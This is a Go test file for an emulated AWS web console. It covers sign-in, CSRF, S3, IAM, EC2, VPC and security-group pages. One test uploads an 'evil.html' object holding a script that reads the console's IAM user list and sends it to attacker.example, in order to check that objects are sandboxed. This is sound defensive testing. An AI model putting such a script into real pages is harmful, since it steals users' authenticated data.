package server_test

import (
	"bytes"
	"errors"
	"fmt"
	"io"
	"maps"
	"mime/multipart"
	"net/http"
	"net/http/cookiejar"
	"net/url"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/aws/aws-sdk-go-v2/aws"
	awsmiddleware "github.com/aws/aws-sdk-go-v2/aws/middleware"
	"github.com/aws/aws-sdk-go-v2/service/ec2"
	ec2types "github.com/aws/aws-sdk-go-v2/service/ec2/types"
	"github.com/aws/aws-sdk-go-v2/service/iam"
	iamtypes "github.com/aws/aws-sdk-go-v2/service/iam/types"
	"github.com/aws/aws-sdk-go-v2/service/s3"
	"github.com/aws/smithy-go"
	smithyhttp "github.com/aws/smithy-go/transport/http"

	"github.com/gureum/gureum/internal/console"
	"github.com/gureum/gureum/internal/server"
)

// The web console over real HTTP, as a browser without JavaScript uses
// it: its forms, its cookie, its redirects.

type browser struct {
	t    *testing.T
	base string
	c    *http.Client
	csrf string
}

func (e *testEnv) browser() *browser {
	jar, _ := cookiejar.New(nil)
	return &browser{t: e.t, base: e.URL, c: &http.Client{Jar: jar}}
}

var csrfRe = regexp.MustCompile(`name="csrf" value="([0-9a-f]+)"`)

// get fetches a page and remembers its CSRF token.
func (b *browser) get(path string) (int, string) {
	b.t.Helper()
	return b.read(b.c.Get(b.base + path))
}

// read returns a response's status and page and remembers the page's CSRF
// token, if it has one.
func (b *browser) read(resp *http.Response, err error) (int, string) {
	b.t.Helper()
	if err != nil {
		b.t.Fatal(err)
	}
	defer resp.Body.Close()
	body, _ := io.ReadAll(resp.Body)
	if m := csrfRe.FindSubmatch(body); m != nil {
		b.csrf = string(m[1])
	}
	return resp.StatusCode, string(body)
}

// post submits a form (with the page's CSRF token unless it has one) and
// follows the redirect.
func (b *browser) post(path string, form url.Values) (int, string) {
	b.t.Helper()
	if _, ok := form["csrf"]; !ok {
		form.Set("csrf", b.csrf)
	}
	return b.read(b.c.PostForm(b.base+path, form))
}

func (b *browser) upload(path, prefix, name string, data []byte) (int, string) {
	b.t.Helper()
	var buf bytes.Buffer
	mw := multipart.NewWriter(&buf)
	_ = mw.WriteField("csrf", b.csrf)
	_ = mw.WriteField("prefix", prefix)
	fw, _ := mw.CreateFormFile("files", name)
	_, _ = fw.Write(data)
	mw.Close()
	return b.read(b.c.Post(b.base+path, mw.FormDataContentType(), &buf))
}

func (b *browser) signInRoot(ak, sk string) {
	b.t.Helper()
	code, body := b.post("/_console/signin", url.Values{"kind": {"root"}, "access_key_id": {ak}, "secret_access_key": {sk}, "csrf": {""}})
	if code != 200 || !strings.Contains(body, "Buckets") {
		b.t.Fatalf("root sign-in: %d %s", code, body)
	}
}

func wantIn(t *testing.T, what, body string, wants ...string) {
	t.Helper()
	for _, w := range wants {
		if !strings.Contains(body, w) {
			t.Fatalf("%s: %q not in the page:\n%s", what, w, body)
		}
	}
}

func TestConsoleSignInAndCSRF(t *testing.T) {
	e := newEnv(t)
	b := e.browser()
	code, body := b.get("/_console/")
	if code != 200 || !strings.Contains(body, "Sign in") {
		t.Fatalf("anonymous: %d", code)
	}
	code, body = b.post("/_console/signin", url.Values{"kind": {"root"}, "access_key_id": {"test"}, "secret_access_key": {"wrong"}, "csrf": {""}})
	if code != 401 || !strings.Contains(body, "Your authentication information is incorrect") {
		t.Fatalf("wrong secret: %d", code)
	}
	// An IAM user's access keys are not a root sign-in.
	root := e.rootIAM()
	if _, err := root.CreateUser(ctx(), &iam.CreateUserInput{UserName: aws.String("u")}); err != nil {
		t.Fatal(err)
	}
	k, _ := root.CreateAccessKey(ctx(), &iam.CreateAccessKeyInput{UserName: aws.String("u")})
	if code, _ = b.post("/_console/signin", url.Values{"kind": {"root"}, "access_key_id": {*k.AccessKey.AccessKeyId},
		"secret_access_key": {*k.AccessKey.SecretAccessKey}, "csrf": {""}}); code != 401 {
		t.Fatalf("IAM user's keys as root: %d", code)
	}
	b.signInRoot("test", "test")
	u, _ := url.Parse(e.URL + "/_console/")
	if cs := b.c.Jar.Cookies(u); len(cs) != 1 {
		t.Fatalf("cookies: %v", cs)
	}
	// The cookie's attributes, as set.
	noFollow := &http.Client{CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}
	sc, err := noFollow.PostForm(e.URL+"/_console/signin", url.Values{"kind": {"root"}, "access_key_id": {"test"}, "secret_access_key": {"test"}})
	if err != nil {
		t.Fatal(err)
	}
	sc.Body.Close()
	set := sc.Header.Get("Set-Cookie")
	for _, want := range []string{"HttpOnly", "SameSite=Strict", "Path=/_console/", "Expires="} {
		if !strings.Contains(set, want) {
			t.Fatalf("Set-Cookie %q lacks %s", set, want)
		}
	}
	// A form without the session's token does nothing.
	for _, token := range []string{"", "0000"} {
		code, _ = b.post("/_console/s3/create", url.Values{"csrf": {token}, "name": {"csrf-victim"}})
		if code != 403 {
			t.Fatalf("CSRF token %q: %d", token, code)
		}
	}
	if _, err := e.S3.HeadBucket(ctx(), &s3.HeadBucketInput{Bucket: aws.String("csrf-victim")}); err == nil {
		t.Fatal("a forged form created a bucket")
	}
	// Sign-out ends the session.
	b.get("/_console/s3")
	b.post("/_console/signout", url.Values{})
	if code, body = b.get("/_console/s3"); !strings.Contains(body, "Sign in") {
		t.Fatalf("after sign-out: %d", code)
	}
	if code, _ = b.post("/_console/s3/create", url.Values{"name": {"after-signout"}}); code != 401 {
		t.Fatalf("POST after sign-out: %d", code)
	}
}

// TestConsoleLearnerS3Story is the story's S3 part: a bucket with Block
// Public Access, an upload, AccessDenied to an anonymous browser, Block
// Public Access off with AWS's warning, a policy with a mistake and then
// a good one, and the picture loads.
func TestConsoleLearnerS3Story(t *testing.T) {
	e := newEnv(t)
	b := e.browser()
	b.signInRoot("test", "test")
	_, body := b.post("/_console/s3/create", url.Values{"name": {"learner-pics"}, "region": {"us-east-1"}, "ownership": {"BucketOwnerEnforced"}, "block_public_access": {"on"}})
	wantIn(t, "create", body, `Successfully created bucket &#34;learner-pics&#34;`, "No objects")
	pic := append([]byte("\x89PNG\r\n\x1a\n"), bytes.Repeat([]byte{7}, 4096)...)
	_, body = b.upload("/_console/s3/bucket/learner-pics/upload", "2026/", "cat.png", pic)
	wantIn(t, "upload", body, "Upload succeeded: 1 file(s)", "cat.png")
	_, body = b.get("/_console/s3/object/learner-pics/2026/cat.png")
	m := regexp.MustCompile(`id="object-url" href="([^"]+)"`).FindStringSubmatch(body)
	if m == nil {
		t.Fatalf("no object URL:\n%s", body)
	}
	objURL := m[1]
	anon := func() int {
		resp, err := http.Get(objURL)
		if err != nil {
			t.Fatal(err)
		}
		defer resp.Body.Close()
		got, _ := io.ReadAll(resp.Body)
		if resp.StatusCode == 200 && !bytes.Equal(got, pic) {
			t.Fatal("the picture's bytes differ")
		}
		return resp.StatusCode
	}
	if c := anon(); c != 403 {
		t.Fatalf("anonymous before: %d", c)
	}
	// A presigned link (the root signed in with its keys) opens it to
	// anyone holding the link, for a while.
	_, body = b.get("/_console/s3/object/learner-pics/2026/cat.png?presign=5")
	pm := regexp.MustCompile(`id="presigned-url" href="([^"]+)"`).FindStringSubmatch(body)
	if pm == nil {
		t.Fatalf("no presigned URL:\n%s", body)
	}
	presigned := strings.ReplaceAll(pm[1], "&amp;", "&")
	resp, err := http.Get(presigned)
	if err != nil {
		t.Fatal(err)
	}
	got, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	if resp.StatusCode != 200 || !bytes.Equal(got, pic) {
		t.Fatalf("presigned GET: %d (%d bytes)", resp.StatusCode, len(got))
	}
	if resp, err = http.Get(strings.Replace(presigned, "X-Amz-Expires=300", "X-Amz-Expires=301", 1)); err != nil || resp.StatusCode != 403 {
		t.Fatalf("tampered presigned GET: %v %v", resp, err)
	}
	resp.Body.Close()
	_, body = b.get("/_console/s3")
	wantIn(t, "bucket list", body, "Bucket and objects not public")
	_, body = b.get("/_console/s3/bucket/learner-pics/permissions")
	wantIn(t, "permissions", body, `id="bpa-status">On`, "Turning off block all public access might result in this bucket and the objects within becoming public.")
	// Off without the acknowledgement: refused.
	_, body = b.post("/_console/s3/bucket/learner-pics/bpa", url.Values{})
	wantIn(t, "no acknowledgement", body, "acknowledge that the current settings", `id="bpa-status">On`)
	_, body = b.post("/_console/s3/bucket/learner-pics/bpa", url.Values{"acknowledge": {"on"}})
	wantIn(t, "BPA off", body, "Successfully edited Block Public Access", `id="bpa-status">Off`)
	// A policy with a mistake gets AWS's message.
	_, body = b.post("/_console/s3/bucket/learner-pics/policy", url.Values{"policy": {`{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Principal":"*","Action":"s3:GetObject","Resource":"arn:aws:s3:::other-bucket/*"}]}`}})
	wantIn(t, "bad policy", body, "MalformedPolicy", "Policy has invalid resource")
	if c := anon(); c != 403 {
		t.Fatalf("anonymous after a refused policy: %d", c)
	}
	_, body = b.post("/_console/s3/bucket/learner-pics/policy", url.Values{"policy": {`{"Version":"2012-10-17","Statement":[{"Sid":"PublicRead","Effect":"Allow","Principal":"*","Action":"s3:GetObject","Resource":"arn:aws:s3:::learner-pics/*"}]}`}})
	wantIn(t, "good policy", body, "Successfully edited bucket policy.", "Publicly accessible", "PublicRead")
	if c := anon(); c != 200 {
		t.Fatalf("anonymous after the policy: %d", c)
	}
	_, body = b.get("/_console/s3")
	wantIn(t, "bucket list", body, "⚠ Public")
	// Download through the console, as the signed-in user.
	resp, err = b.c.Get(e.URL + "/_console/s3/download/learner-pics/2026/cat.png")
	if err != nil {
		t.Fatal(err)
	}
	got, _ = io.ReadAll(resp.Body)
	resp.Body.Close()
	if !bytes.Equal(got, pic) || !strings.Contains(resp.Header.Get("Content-Disposition"), "cat.png") {
		t.Fatalf("download: %d bytes, %q", len(got), resp.Header.Get("Content-Disposition"))
	}
	// Folders: the upload went under 2026/.
	_, body = b.get("/_console/s3/bucket/learner-pics")
	wantIn(t, "folders", body, "2026/")
	// Delete with "empty first".
	_, body = b.post("/_console/s3/bucket/learner-pics/delete", url.Values{"confirm": {"learner-pics"}, "empty": {"on"}})
	wantIn(t, "delete", body, `Successfully deleted bucket &#34;learner-pics&#34;`)
}

// TestConsoleIAMUserAndKey: a user, an access key whose secret is shown
// once and whose .csv downloads once, a console password the user then
// signs in with.
func TestConsoleIAMUserAndKey(t *testing.T) {
	e := newEnv(t)
	b := e.browser()
	b.signInRoot("test", "test")
	b.get("/_console/iam/users")
	_, body := b.post("/_console/iam/users/create", url.Values{"name": {"ide"}})
	wantIn(t, "create user", body, "User ide created.", "arn:aws:iam::000000000000:user/ide")
	_, body = b.post("/_console/iam/users/ide/keys", url.Values{})
	id := regexp.MustCompile(`id="new-key-id">([A-Z0-9]+)<`).FindStringSubmatch(body)
	secret := regexp.MustCompile(`id="new-key-secret">([^<]+)<`).FindStringSubmatch(body)
	if id == nil || secret == nil {
		t.Fatalf("new key:\n%s", body)
	}
	code, csv := b.get("/_console/iam/users/ide/keys/" + id[1] + "/csv")
	if code != 200 || !strings.Contains(csv, id[1]) || strings.Count(csv, "\n") != 2 {
		t.Fatalf("csv: %d %q", code, csv)
	}
	if code, _ = b.get("/_console/iam/users/ide/keys/" + id[1] + "/csv"); code != 410 {
		t.Fatalf("second csv: %d", code)
	}
	// The key works with the SDK (the secret as the page showed it).
	sec := strings.NewReplacer("&#43;", "+", "&#47;", "/").Replace(secret[1])
	if !strings.Contains(csv, sec) {
		t.Fatalf("csv secret differs from the page's")
	}
	if _, err := e.sts(id[1], sec, "").GetCallerIdentity(ctx(), nil); err != nil {
		t.Fatalf("the new key: %v", err)
	}
	_, body = b.post("/_console/iam/users/ide/keys/"+id[1]+"/status", url.Values{"status": {"Inactive"}})
	wantIn(t, "deactivate", body, "is now inactive", "Inactive")
	_, body = b.post("/_console/iam/users/ide/password", url.Values{"password": {"Corr3ct-horse"}})
	wantIn(t, "password", body, "Console password set.", "can sign in")
	// The user signs in with it, and sees only what its policies allow.
	u := e.browser()
	code, _ = u.post("/_console/signin", url.Values{"kind": {"iam"}, "account": {"000000000000"}, "user": {"ide"}, "password": {"wrong-horse1"}, "csrf": {""}})
	if code != 401 {
		t.Fatalf("wrong password: %d", code)
	}
	code, body = u.post("/_console/signin", url.Values{"kind": {"iam"}, "account": {"000000000000"}, "user": {"ide"}, "password": {"Corr3ct-horse"}, "csrf": {""}})
	if code != 403 || !strings.Contains(body, "s3:ListAllMyBuckets") || !strings.Contains(body, "arn:aws:iam::000000000000:user/ide") {
		t.Fatalf("user without permissions: %d\n%s", code, body)
	}
}

// TestConsoleDeniesWithoutData: a principal without permission gets the
// denial page with AWS's message for every page, never the data, and
// every form changes nothing.
func TestConsoleDeniesWithoutData(t *testing.T) {
	e := newEnv(t)
	b := e.browser()
	b.signInRoot("test", "test")
	b.post("/_console/s3/create", url.Values{"name": {"private-stuff"}, "block_public_access": {"on"}})
	b.upload("/_console/s3/bucket/private-stuff/upload", "", "secret-plans.txt", []byte("the plans"))
	b.get("/_console/iam/users")
	b.post("/_console/iam/users/create", url.Values{"name": {"nobody"}})
	b.post("/_console/iam/users/nobody/password", url.Values{"password": {"Nobody-pass1"}})
	b.post("/_console/iam/users/create", url.Values{"name": {"hidden-user"}})
	n := e.browser()
	code, body := n.post("/_console/signin", url.Values{"kind": {"iam"}, "account": {"000000000000"}, "user": {"nobody"}, "password": {"Nobody-pass1"}, "csrf": {""}})
	if code != 403 {
		t.Fatalf("sign-in: %d", code)
	}
	for _, p := range []string{"/_console/s3", "/_console/s3/bucket/private-stuff", "/_console/s3/bucket/private-stuff/permissions",
		"/_console/s3/object/private-stuff/secret-plans.txt", "/_console/s3/download/private-stuff/secret-plans.txt",
		"/_console/iam/users", "/_console/iam/users/hidden-user"} {
		code, body = n.get(p)
		if code != 403 || !strings.Contains(body, "AccessDenied") || !strings.Contains(body, "is not authorized to perform") {
			t.Fatalf("%s: %d\n%s", p, code, body)
		}
		if strings.Contains(body, "the plans") || strings.Contains(body, "<table") {
			t.Fatalf("%s shows data to a denied user", p)
		}
	}
	for _, f := range []struct {
		path string
		form url.Values
	}{
		{"/_console/s3/create", url.Values{"name": {"nobodys-bucket"}}},
		{"/_console/s3/bucket/private-stuff/bpa", url.Values{"acknowledge": {"on"}}},
		{"/_console/s3/bucket/private-stuff/policy", url.Values{"policy": {`{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Principal":"*","Action":"s3:GetObject","Resource":"arn:aws:s3:::private-stuff/*"}]}`}}},
		{"/_console/s3/bucket/private-stuff/delete-objects", url.Values{"key": {"secret-plans.txt"}}},
		{"/_console/s3/bucket/private-stuff/delete", url.Values{"confirm": {"private-stuff"}, "empty": {"on"}}},
		{"/_console/iam/users/create", url.Values{"name": {"made-by-nobody"}}},
		{"/_console/iam/users/hidden-user/keys", url.Values{}},
		{"/_console/iam/users/hidden-user/delete", url.Values{}},
	} {
		n.get("/_console/s3") // a page with the session's token
		_, body = n.post(f.path, f.form)
		if !strings.Contains(body, "AccessDenied") {
			t.Fatalf("%s: no denial:\n%s", f.path, body)
		}
	}
	// Nothing changed.
	o, err := e.S3.GetObject(ctx(), &s3.GetObjectInput{Bucket: aws.String("private-stuff"), Key: aws.String("secret-plans.txt")})
	if err != nil {
		t.Fatalf("the object: %v", err)
	}
	o.Body.Close()
	if _, err := e.S3.GetBucketPolicy(ctx(), &s3.GetBucketPolicyInput{Bucket: aws.String("private-stuff")}); err == nil {
		t.Fatal("a denied user set a policy")
	}
	us, _ := e.rootIAM().ListUsers(ctx(), &iam.ListUsersInput{})
	if len(us.Users) != 2 {
		t.Fatalf("users: %d", len(us.Users))
	}
}

var (
	optionRe = regexp.MustCompile(`<option value="((?:subnet|ami)-[0-9a-f]+)"`)
	groupRe  = regexp.MustCompile(`name="group" value="(sg-[0-9a-f]+)"`)
	stateRe  = regexp.MustCompile(`class="state">([a-z-]+)<`)
)

// TestConsoleVPCAndInstanceStory is the story's VPC and EC2 part: "VPC
// and more" drawn, the launch wizard offering only the chosen VPC's
// security groups, a new key pair's .pem once, pending → running while
// the page refreshes, stop, console output, create image.
func TestConsoleVPCAndInstanceStory(t *testing.T) {
	e := newEnv(t)
	c := e.ec2("test", "test")
	b := e.browser()
	b.signInRoot("test", "test")
	b.get("/_console/vpc")
	_, body := b.post("/_console/vpc/create", url.Values{"name": {"story"}, "cidr": {"10.30.0.0/16"}, "azs": {"2"}, "private": {"on"}, "nat": {"1"}})
	wantIn(t, "VPC and more", body, "You successfully created", "Public subnet 10.30.0.0/20", "Public subnet 10.30.16.0/20",
		"Private subnet 10.30.128.0/20", "Private subnet 10.30.144.0/20", "Internet gateway igw-", "NAT nat-", `class="route"`)
	vpc := regexp.MustCompile(`<h1>(vpc-[0-9a-f]+)`).FindStringSubmatch(body)[1]
	// The drawing is current: an instance appears in it once launched.
	other, err := c.CreateVpc(ctx(), &ec2.CreateVpcInput{CidrBlock: aws.String("10.31.0.0/16")})
	if err != nil {
		t.Fatal(err)
	}
	foreign, err := c.CreateSecurityGroup(ctx(), &ec2.CreateSecurityGroupInput{GroupName: aws.String("elsewhere"), Description: aws.String("x"), VpcId: other.Vpc.VpcId})
	if err != nil {
		t.Fatal(err)
	}
	_, page := b.get("/_console/ec2/launch?vpc=" + vpc)
	groups := groupRe.FindAllStringSubmatch(page, -1)
	if len(groups) != 1 || strings.Contains(page, *foreign.GroupId) {
		t.Fatalf("security groups offered for %s: %v (foreign %s)", vpc, groups, *foreign.GroupId)
	}
	var subnet, ami string
	for _, m := range optionRe.FindAllStringSubmatch(page, -1) {
		if strings.HasPrefix(m[1], "subnet-") && subnet == "" {
			subnet = m[1]
		}
		if strings.HasPrefix(m[1], "ami-") && ami == "" {
			ami = m[1]
		}
	}
	_, body = b.post("/_console/ec2/launch", url.Values{"vpc": {vpc}, "name": {"web"}, "image": {ami}, "type": {"t3.micro"}, "new_key": {"story-key"},
		"subnet": {subnet}, "group": {groups[0][1]}, "user_data": {"#!/bin/sh\necho hello from user data\n"}})
	wantIn(t, "launch", body, "Successfully initiated launch of instance", "story-key.pem")
	id := regexp.MustCompile(`instance \((i-[0-9a-f]+)\)`).FindStringSubmatch(body)[1]
	if st := stateRe.FindStringSubmatch(body); st == nil || st[1] != "pending" || !strings.Contains(body, `http-equiv="refresh"`) {
		t.Fatalf("just launched: %v, refresh %v", st, strings.Contains(body, `http-equiv="refresh"`))
	}
	code, pem := b.get("/_console/ec2/keys/story-key/pem")
	if code != 200 || !strings.Contains(pem, "PRIVATE KEY") {
		t.Fatalf("pem: %d", code)
	}
	if code, _ = b.get("/_console/ec2/keys/story-key/pem"); code != 410 {
		t.Fatalf("second pem: %d", code)
	}
	waitRunning(t, c, id)
	_, body = b.get("/_console/ec2/instances")
	if st := stateRe.FindStringSubmatch(body); st == nil || st[1] != "running" || strings.Contains(body, `http-equiv="refresh"`) {
		t.Fatalf("running: %v", st)
	}
	_, body = b.get("/_console/vpc/" + vpc)
	wantIn(t, "drawing with the instance", body, id+" web · running")
	_, body = b.post("/_console/ec2/instances/"+id+"/stop", url.Values{})
	wantIn(t, "stop", body, "Successfully stopped "+id)
	w := ec2.NewInstanceStoppedWaiter(c, func(o *ec2.InstanceStoppedWaiterOptions) { o.MinDelay = 200 * time.Millisecond })
	if err := w.Wait(ctx(), &ec2.DescribeInstancesInput{InstanceIds: []string{id}}, 30*time.Second); err != nil {
		t.Fatal(err)
	}
	if code, body = b.get("/_console/ec2/instances/" + id + "/console"); code != 200 || !strings.Contains(body, "console-output") {
		t.Fatalf("console output: %d", code)
	}
	_, body = b.post("/_console/ec2/instances/"+id+"/image", url.Values{"image_name": {"story-image"}})
	wantIn(t, "create image", body, "is being created from "+id)
	imgs, err := c.DescribeImages(ctx(), &ec2.DescribeImagesInput{Owners: []string{"self"}})
	if err != nil || len(imgs.Images) != 1 || *imgs.Images[0].Name != "story-image" {
		t.Fatalf("images: %+v %v", imgs, err)
	}
	_, body = b.get("/_console/ec2/images")
	wantIn(t, "AMIs", body, "story-image", *imgs.Images[0].ImageId)
	_, body = b.post("/_console/ec2/images/"+*imgs.Images[0].ImageId+"/deregister", url.Values{})
	wantIn(t, "deregister", body, "Successfully deregistered")
	// Key pairs: the wizard's, a new ED25519 one, one imported from a
	// public key, one deleted.
	_, body = b.get("/_console/ec2/keys")
	wantIn(t, "key pairs", body, "story-key")
	_, body = b.post("/_console/ec2/keys/create", url.Values{"name": {"edkey"}, "type": {"ed25519"}})
	wantIn(t, "create ed25519", body, "Successfully created key pair edkey.", "ed25519", "Download edkey.pem")
	kp, err := c.DescribeKeyPairs(ctx(), &ec2.DescribeKeyPairsInput{KeyNames: []string{"edkey"}, IncludePublicKey: aws.Bool(true)})
	if err != nil {
		t.Fatal(err)
	}
	_, body = b.post("/_console/ec2/keys/import", url.Values{"name": {"imported"}, "public_key": {*kp.KeyPairs[0].PublicKey}})
	wantIn(t, "import", body, "Successfully imported key pair imported.")
	_, body = b.post("/_console/ec2/keys/import", url.Values{"name": {"junk"}, "public_key": {"not a key"}})
	wantIn(t, "import junk", body, "InvalidParameterValue", "Key is not in valid OpenSSH public key format")
	_, body = b.post("/_console/ec2/keys/story-key/delete", url.Values{})
	wantIn(t, "delete key", body, "Successfully deleted key pair story-key.")
}

// TestConsoleIAMPoliciesAndSimulator: a policy written in the editor (a
// mistake gets IAM's message), attached to a user, judged by the policy
// simulator; a group with the user; a role with a trust policy.
func TestConsoleIAMPoliciesAndSimulator(t *testing.T) {
	e := newEnv(t)
	b := e.browser()
	b.signInRoot("test", "test")
	b.get("/_console/iam/users")
	b.post("/_console/iam/users/create", url.Values{"name": {"dev"}})
	b.get("/_console/iam/policies")
	_, body := b.post("/_console/iam/policies/create", url.Values{"name": {"broken"}, "document": {`{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Action":"s3:GetObject"}]}`}})
	wantIn(t, "bad policy", body, "MalformedPolicyDocument")
	_, body = b.post("/_console/iam/policies/create", url.Values{"name": {"read-photos"}, "document": {`{"Version":"2012-10-17","Statement":[
  {"Effect":"Allow","Action":"s3:GetObject","Resource":"arn:aws:s3:::photos/*"}]}`}})
	wantIn(t, "good policy", body, "Policy read-photos created.", "arn:aws:iam::000000000000:policy/read-photos")
	b.get("/_console/iam/users/dev")
	_, body = b.post("/_console/iam/users/dev/attach", url.Values{"policy_arn": {"arn:aws:iam::000000000000:policy/read-photos"}})
	wantIn(t, "attach", body, "Policy attached.")
	_, body = b.get("/_console/iam/simulator?" + url.Values{"principal": {"arn:aws:iam::000000000000:user/dev"},
		"actions": {"s3:GetObject s3:PutObject"}, "resource": {"arn:aws:s3:::photos/cat.png"}}.Encode())
	dec := regexp.MustCompile(`<td>(s3:[A-Za-z]+)</td><td>[^<]*</td><td class="decision">([a-zA-Z]+)</td>`).FindAllStringSubmatch(body, -1)
	if len(dec) != 2 || dec[0][1] != "s3:GetObject" || dec[0][2] != "allowed" || dec[1][2] != "implicitDeny" {
		t.Fatalf("simulation: %v\n%s", dec, body)
	}
	b.get("/_console/iam/groups")
	_, body = b.post("/_console/iam/groups/create", url.Values{"name": {"developers"}})
	wantIn(t, "group", body, "User group developers created.")
	_, body = b.post("/_console/iam/groups/developers/add", url.Values{"user": {"dev"}})
	wantIn(t, "add to group", body, "User dev added to developers.")
	gs, err := e.rootIAM().ListGroupsForUser(ctx(), &iam.ListGroupsForUserInput{UserName: aws.String("dev")})
	if err != nil || len(gs.Groups) != 1 {
		t.Fatalf("groups of dev: %+v %v", gs, err)
	}
	b.get("/_console/iam/roles")
	_, body = b.post("/_console/iam/roles/create", url.Values{"name": {"ghost-trust"}, "trust": {`{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Principal":{"AWS":"arn:aws:iam::000000000000:user/nobody"},"Action":"sts:AssumeRole"}]}`}})
	wantIn(t, "role with a missing principal", body, "MalformedPolicyDocument", "Invalid principal in policy")
	_, body = b.post("/_console/iam/roles/create", url.Values{"name": {"web-server"}, "trust": {`{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Principal":{"Service":"ec2.amazonaws.com"},"Action":"sts:AssumeRole"}]}`}})
	wantIn(t, "role", body, "Role web-server created.", "arn:aws:iam::000000000000:role/web-server")
}

// TestConsoleSecurityGroupEditor: a group made in a VPC, an inbound rule
// added (the data plane's rule set is what the API records), an invalid
// one refused with EC2's message, a rule removed by id.
func TestConsoleSecurityGroupEditor(t *testing.T) {
	e := newEnv(t)
	c := e.ec2("test", "test")
	v, err := c.CreateVpc(ctx(), &ec2.CreateVpcInput{CidrBlock: aws.String("10.44.0.0/16")})
	if err != nil {
		t.Fatal(err)
	}
	vpc := *v.Vpc.VpcId
	b := e.browser()
	b.signInRoot("test", "test")
	b.get("/_console/vpc/" + vpc + "/security-groups")
	_, body := b.post("/_console/vpc/"+vpc+"/security-groups/create", url.Values{"name": {"web"}, "description": {"web servers"}})
	wantIn(t, "create", body, "Security group created.", "web servers")
	sg := regexp.MustCompile(`<h2>web <small>(sg-[0-9a-f]+)</small>`).FindStringSubmatch(body)
	if sg == nil {
		t.Fatalf("no group:\n%s", body)
	}
	_, body = b.post("/_console/vpc/"+vpc+"/security-groups/"+sg[1]+"/ingress", url.Values{"protocol": {"tcp"}, "ports": {"22"}, "cidr": {"203.0.113.0/24"}, "description": {"ssh from the office"}})
	wantIn(t, "add rule", body, "Inbound rule added", "ssh from the office", "203.0.113.0/24")
	_, body = b.post("/_console/vpc/"+vpc+"/security-groups/"+sg[1]+"/ingress", url.Values{"protocol": {"tcp"}, "ports": {"22"}, "cidr": {"not-a-cidr"}})
	wantIn(t, "bad rule", body, "InvalidParameterValue")
	d, err := c.DescribeSecurityGroups(ctx(), &ec2.DescribeSecurityGroupsInput{GroupIds: []string{sg[1]}})
	if err != nil || len(d.SecurityGroups[0].IpPermissions) != 1 || *d.SecurityGroups[0].IpPermissions[0].FromPort != 22 {
		t.Fatalf("the API's rules: %+v %v", d, err)
	}
	rule := regexp.MustCompile(`<td>Inbound</td><td>(sgr-[0-9a-f]+)</td><td>tcp</td>`).FindStringSubmatch(body)
	if rule == nil {
		t.Fatalf("no rule id:\n%s", body)
	}
	_, body = b.post("/_console/vpc/"+vpc+"/security-groups/"+sg[1]+"/revoke", url.Values{"rule": {rule[1]}, "direction": {"Inbound"}})
	wantIn(t, "revoke", body, "Rule "+rule[1]+" removed.")
	d, _ = c.DescribeSecurityGroups(ctx(), &ec2.DescribeSecurityGroupsInput{GroupIds: []string{sg[1]}})
	if len(d.SecurityGroups[0].IpPermissions) != 0 {
		t.Fatalf("rule still there: %+v", d.SecurityGroups[0].IpPermissions)
	}
}

// TestConsoleOriginIsolatedFromObjects: an object opened path-style on
// gureum's own origin (which serves the console) is sandboxed, so a page
// uploaded by another user cannot act in the console as its reader; the
// bucket's virtual host is another origin and is left alone.
func TestConsoleOriginIsolatedFromObjects(t *testing.T) {
	e := newEnv(t)
	e.openBucket("pages")
	pol := `{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Principal":"*","Action":"s3:GetObject","Resource":"arn:aws:s3:::pages/*"}]}`
	if _, err := e.S3.PutBucketPolicy(ctx(), &s3.PutBucketPolicyInput{Bucket: aws.String("pages"), Policy: aws.String(pol)}); err != nil {
		t.Fatal(err)
	}
	if _, err := e.S3.PutObject(ctx(), &s3.PutObjectInput{Bucket: aws.String("pages"), Key: aws.String("evil.html"), ContentType: aws.String("text/html"),
		Body: strings.NewReader(`<script>fetch("/_console/iam/users").then(r=>r.text()).then(t=>fetch("https://attacker.example/?"+t))</script>`)}); err != nil {
		t.Fatal(err)
	}
	resp, err := http.Get(e.URL + "/pages/evil.html")
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != 200 || !strings.HasPrefix(resp.Header.Get("Content-Security-Policy"), "sandbox") || strings.Contains(resp.Header.Get("Content-Security-Policy"), "allow-same-origin") {
		t.Fatalf("path-style object: %d CSP %q", resp.StatusCode, resp.Header.Get("Content-Security-Policy"))
	}
	// A presigned URL opened in a browser is sandboxed too; an SDK's
	// header-signed GET is not a navigation and gets no policy.
	pre, err := s3.NewPresignClient(e.S3).PresignGetObject(ctx(), &s3.GetObjectInput{Bucket: aws.String("pages"), Key: aws.String("evil.html")})
	if err != nil {
		t.Fatal(err)
	}
	if resp, err = http.Get(pre.URL); err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != 200 || !strings.HasPrefix(resp.Header.Get("Content-Security-Policy"), "sandbox") {
		t.Fatalf("presigned path-style object: %d CSP %q", resp.StatusCode, resp.Header.Get("Content-Security-Policy"))
	}
	got, err := e.S3.GetObject(ctx(), &s3.GetObjectInput{Bucket: aws.String("pages"), Key: aws.String("evil.html")})
	if err != nil {
		t.Fatal(err)
	}
	got.Body.Close()
	raw, ok := awsmiddleware.GetRawResponse(got.ResultMetadata).(*smithyhttp.Response)
	if !ok || raw.StatusCode != 200 || raw.Header.Get("Content-Security-Policy") != "" {
		t.Fatalf("SDK GET: CSP %q", raw.Header.Get("Content-Security-Policy"))
	}
	req, _ := http.NewRequest("GET", e.URL+"/evil.html", nil)
	req.Host = "pages.s3.localhost"
	resp, err = http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != 200 || resp.Header.Get("Content-Security-Policy") != "" {
		t.Fatalf("virtual host: %d CSP %q", resp.StatusCode, resp.Header.Get("Content-Security-Policy"))
	}
}

// TestConsoleOwnershipAndACL: the Permissions tab shows Object Ownership
// and the bucket's ACL, and enabling ACLs needs AWS's acknowledgement.
func TestConsoleOwnershipAndACL(t *testing.T) {
	e := newEnv(t)
	b := e.browser()
	b.signInRoot("test", "test")
	b.post("/_console/s3/create", url.Values{"name": {"owned"}, "block_public_access": {"on"}, "ownership": {"BucketOwnerEnforced"}})
